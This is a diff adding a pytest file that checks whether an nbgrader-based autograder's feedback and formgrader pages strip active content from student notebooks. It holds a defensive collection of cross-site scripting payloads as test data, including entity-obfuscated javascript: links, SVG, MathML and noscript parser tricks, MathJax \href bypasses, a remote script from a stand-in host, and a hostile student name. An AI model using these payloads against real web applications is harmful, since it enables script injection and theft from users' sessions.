@@ -1,0 +1,311 @@
+"""What students write is shown in nbgrader's pages, and nothing of it runs or loads there."""
+
+from __future__ import annotations
+
+import base64
+import os
+import shutil
+from pathlib import Path
+from typing import Any
+
+import nbformat
+import pytest
+from bs4 import BeautifulSoup
+from conftest import NAME
+from nbconvert.exporters import HTMLExporter
+from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension
+
+from autograder.class_directory import ClassDirectory
+from autograder.classroom import grade_assignment, write_feedback
+from autograder.pages import clean_html
+
+PNG = base64.b64encode(
+    bytes.fromhex(
+        "89504e470d0a1a0a0000000d49484452000000010000000108000000003a7e9b55"
+        "0000000a49444154789c636000000002000148afa4710000000049454e44ae426082"
+    )
+).decode()
+STUDENT = "eve\"'<img src=x onerror=pwned(0)>"
+
+MARKDOWN = {
+    "script": "<script>pwned()</script>",
+    "script in a paragraph": "words <script>pwned()</script> words",
+    "script in upper case": "<SCRIPT SRC=//pwned.example/x.js></SCRIPT>",
+    "image with onerror": "<img src=x onerror=pwned()>",
+    "image with a slash": "<img/src=x/onerror=pwned()>",
+    "remote image": "![picture](https://pwned.example/a.png)",
+    "javascript link": "[link](javascript:pwned())",
+    "javascript link in HTML": "<a href='javascript:pwned()'>link</a>",
+    "javascript link by entities": "<a href='&#106;ava&Tab;script:pwned()'>link</a>",
+    "javascript behind a control character": "<a href='\x01javascript:pwned()'>link</a>",
+    "javascript behind files": "[link](files/javascript:pwned())",
+    "javascript behind files in HTML": "<a href='files/javascript:pwned()'>link</a>",
+    "data link": "<a href='data:text/html,<script>pwned()</script>'>link</a>",
+    "relative link": "[my page](pwned.html)",
+    "svg": "<svg onload=pwned()><script>pwned()</script></svg>",
+    "svg in a picture": "<img src='data:image/svg+xml,<svg onload=pwned()>'>",
+    "iframe": "<iframe src='javascript:pwned()' srcdoc='<script>pwned()</script>'></iframe>",
+    "object": "<object data='javascript:pwned()'></object><embed src='//pwned.example'>",
+    "style": "<style>body { background: url(//pwned.example) }</style>",
+    "style attribute": "<p style='position: fixed; background: url(//pwned.example)'>words</p>",
+    "link element": "<link rel=stylesheet href=//pwned.example><base href=//pwned.example>",
+    "meta": "<meta http-equiv=refresh content='0; url=javascript:pwned()'>",
+    "form": "<form action=javascript:pwned()><button formaction=javascript:pwned()>b</button>",
+    "details": "<details open ontoggle=pwned()><summary>s</summary>words</details>",
+    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=pwned()></math>",
+    "noscript": "<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>",
+    "comment": "<!--><img src=x onerror=pwned()>-->",
+    "unclosed": "<img src=x onerror=pwned() alt='",
+    "textarea": "<textarea></p><img src=x onerror=pwned()></textarea>",
+    "autolink": "<javascript:pwned()>",
+    "alt text": '![" onerror=pwned() x="](attachment:a.png)',
+    "code fence": "```html onload=pwned()\n<script>pwned()</script>\n```",
+    "nested quotes": ">" * 3000 + " pwned()",
+    "nested elements": "<div>" * 3000 + "pwned()",
+    "formula": "$<img src=x onerror=pwned()>$ $$</span><script>pwned()</script>$$",
+}
+OUTPUTS = {
+    "html": {"data": {"text/html": "<script>pwned()</script><img src=x onerror=pwned()>"}},
+    "isolated html": {
+        "data": {"text/html": "<script>pwned()</script>"},
+        "metadata": {"text/html": {"isolated": True}},
+    },
+    "javascript": {"data": {"application/javascript": "pwned()"}},
+    "svg": {"data": {"image/svg+xml": "<svg onload='pwned()'><script>pwned()</script></svg>"}},
+    "latex": {"data": {"text/latex": "<img src=x onerror=pwned()> $x$"}},
+    "markdown": {"data": {"text/markdown": "<script>pwned()</script> [a](javascript:pwned())"}},
+    "text": {"data": {"text/plain": "\x1b[31m<script>pwned()</script>\x1b[0m"}},
+    "widget": {"data": {"application/vnd.jupyter.widget-view+json": {"model_id": "pwned"}}},
+    "mermaid": {"data": {"text/vnd.mermaid": "<script>pwned()</script>"}},
+    "picture": {"data": {"image/png": "'\"><script>pwned()</script>"}},
+    "stream": {
+        "output_type": "stream",
+        "name": "stdout",
+        "text": "<script>pwned()</script> \x1b[1;31m<img src=x onerror=pwned()>\x1b[48;2;1;2;3m",
+    },
+    "error": {
+        "output_type": "error",
+        "ename": "<script>pwned()</script>",
+        "evalue": "<img src=x onerror=pwned()>",
+        "traceback": ["\x1b[31m<script>pwned()</script>", "<img src=x onerror=pwned()>"],
+    },
+}
+ORDINARY = """## A heading
+
+- one
+- two with *stress*, **strength** and `code < 3`
+
+| name | value |
+|:-----|------:|
+| a    | 1     |
+
+```python
+if 1 < 2 and True:
+    pass
+```
+
+Where $a < b$ and $$\\begin{aligned} x &= y \\\\ y &< z \\end{aligned}$$ it holds & is < fine.
+
+![picture](attachment:a.png) [site](https://example.org/a?b=1&c=2) <sub>low</sub>
+
+<details><summary>Hint</summary>
+
+Folded.
+
+</details>
+"""
+
+
+def fill(path: Path) -> None:
+    """Put all that is above into an autograded notebook."""
+    path.chmod(0o644)
+    notebook = nbformat.read(path, as_version=4)
+    for text in (*MARKDOWN.values(), ORDINARY):
+        cell = nbformat.v4.new_markdown_cell(text)
+        cell["attachments"] = {"a.png": {"image/png": PNG}}
+        notebook.cells.append(cell)
+        notebook.cells.append(nbformat.v4.new_raw_cell(text))
+        notebook.cells.append(nbformat.v4.new_code_cell(text))
+    for output in OUTPUTS.values():
+        data = {"output_type": "display_data", "metadata": {}} if "data" in output else {}
+        shown = {**data, **output}
+        notebook.cells.append(nbformat.v4.new_code_cell("1", outputs=[nbformat.from_dict(shown)]))
+    question = next(cell for cell in notebook.cells if cell.id == "why_order")
+    question.source = "\n\n".join(MARKDOWN.values()) + "![gone](attachment:gone.png)"
+    path.write_text(nbformat.writes(notebook))
+
+
+@pytest.fixture(scope="module")
+def pages(
+    tmp_path_factory: pytest.TempPathFactory, class_template: Path, few_solved: Any
+) -> dict[str, tuple[str, str]]:
+    """Each of nbgrader's two pages, of a harmless submission and of the hostile one."""
+    folder = Path(shutil.copytree(class_template, tmp_path_factory.mktemp("pages") / "class"))
+    for student in ("ada", STUDENT):
+        (folder / "submitted" / student / NAME).mkdir(parents=True)
+        path = folder / "submitted" / student / NAME / f"{NAME}.ipynb"
+        path.write_text(nbformat.writes(few_solved))
+    outcome = grade_assignment(ClassDirectory(folder), NAME, workers=1)
+    assert [report["student"] for report in outcome.reports] == ["ada", STUDENT]
+    fill(folder / "autograded" / STUDENT / NAME / f"{NAME}.ipynb")
+    feedback = write_feedback(ClassDirectory(folder), NAME)
+    return {
+        "feedback": tuple(
+            (feedback / student / NAME / f"{NAME}.html").read_text() for student in ("ada", STUDENT)
+        ),
+        "formgrade": tuple(formgrade(folder, student) for student in ("ada", STUDENT)),
+    }
+
+
+def formgrade(folder: Path, student: str) -> str:
+    """Render formgrader's page of a submission the way its handler does."""
+    formgrader = FormgradeExtension()
+    formgrader.load_cwd_config = False
+    formgrader.config_dir = str(folder)
+    here = os.getcwd()
+    formgrader.initialize([], root=str(folder))
+    os.chdir(here)
+    resources = {
+        "assignment_id": NAME,
+        "notebook_id": NAME,
+        "submission_id": "0",
+        "index": 0,
+        "total": 2,
+        "base_url": "",
+        "student": student,
+        "last_name": student,
+        "first_name": student,
+        "notebook_path": f"autograded/{student}/{NAME}/{NAME}.ipynb",
+    }
+    path = folder / "autograded" / student / NAME / f"{NAME}.ipynb"
+    page, _ = HTMLExporter(config=formgrader.config).from_filename(str(path), resources=resources)
+    return str(page)
+
+
+SVG = "data:image/svg+xml;base64,"
+RUNS = ("script", "style", "iframe", "object", "embed", "link", "base", "meta", "form", "template")
+LOADS = ("href", "src", "srcset", "srcdoc", "data", "action", "formaction", "poster", "background")
+
+
+def active(page: str) -> set[str]:
+    """Return all of a page that runs something or loads it from anywhere."""
+    found = set()
+    for element in BeautifulSoup(page, "html.parser").find_all(True):
+        frame = str(element.get("src", "")).removeprefix("data:text/html;base64,")
+        if element.name == "iframe" and frame != element.get("src"):
+            found |= active(base64.b64decode(frame).decode())
+            continue
+        if element.name in RUNS or element.name in ("svg", "math"):
+            found.add(str(element)[:300])
+        for name, value in element.attrs.items():
+            # No browser runs scripts of a picture.
+            is_inside = str(value).startswith(("#", "data:image/png;base64,", SVG))
+            if name.startswith("on") or (name in LOADS and not is_inside):
+                found.add(f"{element.name} {name}={value}")
+            if name in ("style", "id", "class") and "pwned" in str(value):
+                found.add(f"{element.name} {name}={value}")
+    return found
+
+
+@pytest.mark.parametrize("kind", ["feedback", "formgrade"])
+def test_nothing_that_a_student_writes_runs_or_loads(
+    pages: dict[str, tuple[str, str]], kind: str
+) -> None:
+    harmless, hostile = pages[kind]
+    allowed = {
+        "a href=https://example.org/a?b=1&c=2",
+        f"a data-link=autograded/{STUDENT}/{NAME}/{NAME}.ipynb",
+    }
+    assert active(hostile) - active(harmless) - allowed == set()
+    assert hostile.count("pwned()") > 50, "the page does not show what the student wrote"
+
+
+@pytest.mark.parametrize("kind", ["feedback", "formgrade"])
+def test_ordinary_text_still_looks_as_it_should(
+    pages: dict[str, tuple[str, str]], kind: str
+) -> None:
+    soup = BeautifulSoup(pages[kind][1], "html.parser")
+    cell = next(c for c in soup.select(".text_cell_render") if "A heading" in c.text)
+    assert cell.find("h2").text == "A heading", "a link's sign is left in the heading"
+    assert [item.text for item in cell.select("ul > li")] == [
+        "one",
+        "two with stress, strength and code < 3",
+    ]
+    assert cell.select_one("li code").text == "code < 3"
+    assert cell.select_one("td[style*=right]").text == "1"
+    assert cell.select_one("div.highlight pre span.k").text == "if"
+    assert "$a < b$" in cell.text
+    assert "\\begin{aligned} x &= y \\\\ y &< z \\end{aligned}" in cell.text
+    assert "it holds & is < fine" in cell.text
+    assert cell.find("img")["src"] == f"data:image/png;base64,{PNG}"
+    assert cell.find("a")["href"] == "https://example.org/a?b=1&c=2"
+    assert cell.select_one("details > summary").text == "Hint"
+
+
+@pytest.mark.parametrize("kind", ["feedback", "formgrade"])
+def test_check_table_is_shown_as_it_was_made(pages: dict[str, tuple[str, str]], kind: str) -> None:
+    table = BeautifulSoup(pages[kind][0], "html.parser").select("table.handgrad-check")[1]
+    assert "points" in table.caption.text
+    assert [head.text for head in table.select("th[scope=col]")] == [
+        "result",
+        "check",
+        "what was found",
+    ]
+    badge = table.select_one("tbody td span")
+    assert "passed" in badge.text
+    for wanted in ("color: #fff", "background-color: #", "padding: "):
+        assert wanted in badge["style"], "the table lost its looks"
+
+
+def test_formgrader_shows_a_student_s_name_as_text(pages: dict[str, tuple[str, str]]) -> None:
+    soup = BeautifulSoup(pages["formgrade"][1], "html.parser")
+    link = soup.select_one("a.name-shown")
+    assert link.text.strip() == f"{STUDENT}, {STUDENT}"
+    assert link["data-link"] == f"autograded/{STUDENT}/{NAME}/{NAME}.ipynb"
+
+
+@pytest.mark.parametrize("kind", ["feedback", "formgrade"])
+def test_formulas_are_set_in_mathjax_s_safe_mode(
+    pages: dict[str, tuple[str, str]], kind: str
+) -> None:
+    scripts = BeautifulSoup(pages[kind][0], "html.parser").select("script[src*=mathjax i]")
+    assert scripts, "the page has no MathJax"
+    assert all(script["src"].endswith(",Safe") for script in scripts)
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        r"$\href{javascript:pwned()}{x}$",
+        r"$\hr<!-- -->ef{javascript:pwned()}{x}$",
+        r"$\&#104;ref{javascript:pwned()}{x}$",
+        r"$&bsol;href{javascript:pwned()}{x}$",
+        r"$&#x5c;href{javascript:pwned()}{x}$",
+        r"$\def\x{\href}\x{javascript:pwned()}{x}$",
+        r"$\style{position: fixed}{x}$ $\class{btn}{x}$ $\cssId{relu}{x}$ $\require{html}$",
+    ],
+)
+def test_formulas_cannot_reach_out(formula: str) -> None:
+    shown = BeautifulSoup(clean_html(formula), "html.parser").text
+    for command in ("href", "style", "class", "cssId", "require"):
+        assert f"\\{command}" not in shown
+
+
+def test_formulas_keep_what_only_looks_alike() -> None:
+    assert clean_html(r"$\classify \hrefs a \lt b$ &lt; &amp;lt; &eacute;") == (
+        r"$\classify \hrefs a \lt b$ &lt; &amp;lt; é"
+    )
+
+
+@pytest.mark.parametrize("html", [*MARKDOWN.values(), ORDINARY])
+def test_cleaning_twice_changes_nothing(html: str) -> None:
+    once = clean_html(html)
+    assert clean_html(once) == once
+
+
+def test_students_cannot_pose_as_the_page() -> None:
+    """Formgrader finds its own inputs and buttons by id and class."""
+    shown = clean_html(
+        '<div id="relu" class="score btn full-credit">x</div><span class="k">y</span>'
+    )
+    assert shown == '<div>x</div><span class="k">y</span>'
